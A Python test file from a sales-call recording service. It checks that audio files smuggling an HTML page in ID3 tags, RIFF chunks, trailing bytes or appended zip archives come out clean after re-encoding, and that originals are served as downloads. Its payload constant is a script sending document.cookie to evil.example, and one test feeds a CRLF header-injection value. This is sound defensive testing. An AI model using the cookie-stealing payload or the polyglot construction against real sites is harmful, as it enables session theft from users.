"""Sound that is something else as well: it plays as sound newly made; what came with it leaves only as a download."""

import io
import zipfile

import pytest

from recordings.models import CallStatus, SalesCall
from recordings.speech.decoding import decode
from recordings.speech.playback import encode_playback
from tests.recordings.factories import make_call
from tests.recordings.hostile.conftest import ANALYZE, upload
from tests.recordings.hostile.test_foreign_files import zipped
from tests.recordings.speech.sounds import tone, write_encoded

PAYLOAD = b"<html><script>fetch('https://evil.example/?'+document.cookie)</script></html>"


def id3(text: bytes) -> bytes:
    """An ID3v2.3 tag with `text` as title and as a comment."""
    frames = b""
    for name in (b"TIT2", b"TXXX"):
        body = b"\x00" + text
        frames += name + len(body).to_bytes(4, "big") + b"\x00\x00" + body
    size = len(frames)
    synchsafe = bytes([size >> 21 & 127, size >> 14 & 127, size >> 7 & 127, size & 127])
    return b"ID3\x03\x00\x00" + synchsafe + frames


def riff_chunk(wav: bytes, text: bytes) -> bytes:
    """A WAV with a chunk of its own that holds `text`."""
    chunk = b"LIST" + len(text).to_bytes(4, "little") + text + b"\x00" * (len(text) % 2)
    whole = wav[:12] + chunk + wav[12:]
    return whole[:4] + (len(whole) - 8).to_bytes(4, "little") + whole[8:]


POLYGLOTS = {
    "mp3 with a page in its tags": ("mp3", lambda sound: id3(PAYLOAD) + sound),
    "mp3 with a page behind it": ("mp3", lambda sound: sound + PAYLOAD * 20),
    "mp3 that is an archive too": ("mp3", lambda sound: sound + zipped("run.html", PAYLOAD)),
    "wav with a page in a chunk": ("wav", lambda sound: riff_chunk(sound, PAYLOAD)),
    "wav that is an archive too": ("wav", lambda sound: sound + zipped("run.html", PAYLOAD)),
    "ogg with a page behind it": ("ogg", lambda sound: sound + PAYLOAD * 20),
    "flac with a page behind it": ("flac", lambda sound: sound + PAYLOAD * 20),
}


@pytest.mark.parametrize("what", POLYGLOTS)
def test_what_is_played_holds_nothing_of_what_came_beside_the_sound(what, tmp_path):
    ending, taint = POLYGLOTS[what]
    path = write_encoded(tmp_path / f"call.{ending}", tone(1.0))
    path.write_bytes(taint(path.read_bytes()))
    assert b"script" in path.read_bytes() or zipfile.is_zipfile(path)
    played = tmp_path / "playback.mp3"
    encode_playback(decode(path, tmp_path / "scratch"), played)
    content = played.read_bytes()
    assert b"script" not in content and b"evil" not in content
    assert not zipfile.is_zipfile(io.BytesIO(content))


def test_what_plays_is_sound_by_its_kind_and_the_received_file_a_download(browser, tenant):
    call = make_call(client=tenant)
    assert call.status == CallStatus.PUBLISHED
    played = browser.get(f"/sales-recording-audit/{call.pk}/sound")
    assert (played["Content-Type"], played["X-Content-Type-Options"]) == ("audio/mpeg", "nosniff")
    received = browser.get(f"/sales-recording-audit/{call.pk}/sound?original=1")
    assert (received["Content-Type"], received["X-Content-Type-Options"]) == ("application/octet-stream", "nosniff")
    assert received["Content-Disposition"].startswith("attachment")


@pytest.mark.parametrize(
    "kind", ["text/html", "image/svg+xml", "application/x-httpd-php", "x" * 300, "audio/mpeg\r\nX: y"]
)
def test_the_kind_that_a_sender_names_decides_nothing(browser, kind, wav):
    answer = browser.post(ANALYZE, {"file": upload("call.wav", wav, kind)})
    assert answer.status_code == 202
    SalesCall.objects.update(status=CallStatus.PUBLISHED)  # what is not masked yet is heard by nobody
    call = answer.json()["recording"]["id"]
    assert (
        browser.get(f"/api/v1/sales/recordings/{call}/audio?variant=original")["Content-Type"]
        == "application/octet-stream"
    )
